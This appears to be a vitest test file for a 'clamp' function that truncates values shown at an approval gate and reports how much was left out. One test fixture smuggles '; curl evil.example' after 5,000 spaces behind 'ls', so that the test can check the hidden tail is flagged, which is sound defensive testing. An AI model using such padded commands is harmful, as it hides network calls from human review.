import { describe, expect, it } from "vitest";
import { clamp } from "./clamp";

// Proves S-10.
describe("a value at the gate", () => {
  it("is shown whole when it can be read at a glance", () => {
    expect(clamp("docs/releases/2.4.md", 20)).toBeNull();
    expect(clamp("1\n2\n3\n4\n5\n6", 11)).toBeNull();
  });

  it("says how many lines were left out, and the size of the whole", () => {
    const text = Array.from({ length: 42 }, (_, index) => `line ${index}`).join("\n");
    expect(clamp(text, 1_950)).toEqual({
      head: "line 0\nline 1\nline 2\nline 3",
      left: "38 more lines, 1.9 KB in all",
    });
  });

  it("never hides a tail behind 5,000 spaces without a marker", () => {
    const text = `ls${" ".repeat(5_000)}; curl evil.example`;
    expect(clamp(text, text.length)?.left).toBe("4,621 more characters, 4.9 KB in all");
  });

  it("never hides a tail behind lines that are long themselves", () => {
    const text = Array.from({ length: 8 }, () => "x".repeat(1_000)).join("\n");
    const cut = clamp(text, text.length);
    expect(cut?.head.length).toBe(400);
    expect(cut?.left).toContain("more characters");
  });

  it("leaves the head and the rest together the whole", () => {
    for (const text of ["a".repeat(601), "a\n".repeat(300), `${"😀".repeat(400)}`]) {
      const cut = clamp(text, text.length);
      expect(cut).not.toBeNull();
      expect(text.startsWith(cut?.head ?? "?")).toBe(true);
    }
  });
});
